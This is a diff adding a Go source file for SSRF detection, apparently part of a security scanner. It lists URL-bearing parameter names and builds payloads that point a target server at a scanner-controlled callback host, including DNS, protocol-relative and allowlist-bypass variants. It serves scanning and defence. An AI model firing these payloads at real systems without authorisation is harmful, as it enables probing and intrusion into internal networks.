@@ -0,0 +1,96 @@
+package ssrf
+
+import (
+	"net/url"
+	"strings"
+)
+
+// urlParams are parameter names that commonly hold a URL or host the
+// server fetches
+var urlParams = []string{
+	"url", "uri", "link", "href", "src", "source", "dest", "destination",
+	"target", "host", "domain", "site", "endpoint", "server", "proxy",
+	"callback", "callback_url", "webhook", "webhook_url", "hook", "notify_url",
+	"feed", "rss", "fetch", "load", "file", "path", "page", "image", "image_url",
+	"img", "img_url", "avatar", "avatar_url", "icon", "logo", "preview",
+	"import", "download", "document", "pdf", "html", "template", "redirect",
+	"next", "return", "continue", "ref", "reference", "data", "api", "remote",
+}
+
+// hiddenParams are tried on endpoints that do not already send them
+var hiddenParams = []string{
+	"url", "uri", "link", "src", "callback", "webhook", "image_url", "feed",
+	"dest", "target", "proxy", "host",
+}
+
+// payloadTemplate builds one payload from the callback locations. It
+// returns "" when the template needs something that is not available.
+type payloadTemplate func(cb callback) string
+
+// callback is where one token can be reached
+type callback struct {
+	url    string // http://public-host/token
+	host   string // token.domain, "" without a delegated DNS zone
+	target string // scanned host, for allowlist bypasses
+}
+
+var payloadTemplates = []payloadTemplate{
+	// Plain URL, the most common case
+	func(cb callback) string { return cb.url },
+
+	// DNS name: also caught when egress HTTP is blocked but resolution is not
+	func(cb callback) string {
+		if cb.host == "" {
+			return ""
+		}
+		return "http://" + cb.host + "/"
+	},
+	func(cb callback) string { return cb.host },
+
+	// Protocol-relative, for values joined with the page's scheme
+	func(cb callback) string { return strings.TrimPrefix(cb.url, "http:") },
+
+	// Allowlist bypasses: scanned host as userinfo or subdomain
+	func(cb callback) string {
+		u, err := url.Parse(cb.url)
+		if err != nil {
+			return ""
+		}
+		return "http://" + cb.target + "@" + u.Host + u.Path
+	},
+	func(cb callback) string {
+		if cb.host == "" {
+			return ""
+		}
+		return "http://" + cb.target + "." + cb.host + "/"
+	},
+}
+
+func isURLParam(name string) bool {
+	// JSON leaves are dotted paths; the last key is what matters
+	if i := strings.LastIndexAny(name, ".]"); i >= 0 {
+		name = name[i+1:]
+	}
+	for _, p := range urlParams {
+		if strings.EqualFold(p, name) {
+			return true
+		}
+	}
+	return false
+}
+
+// looksLikeURL reports whether a value is a URL or hostname, which makes the
+// parameter a candidate regardless of its name
+func looksLikeURL(value string) bool {
+	v := strings.ToLower(strings.TrimSpace(value))
+	if strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "//") {
+		return true
+	}
+	// Bare hostnames such as api.example.com
+	if strings.ContainsAny(v, " /?=&") || !strings.Contains(v, ".") {
+		return false
+	}
+	labels := strings.Split(v, ".")
+	tld := labels[len(labels)-1]
+	return len(labels) >= 2 && len(tld) >= 2 && strings.Trim(tld, "abcdefghijklmnopqrstuvwxyz") == ""
+}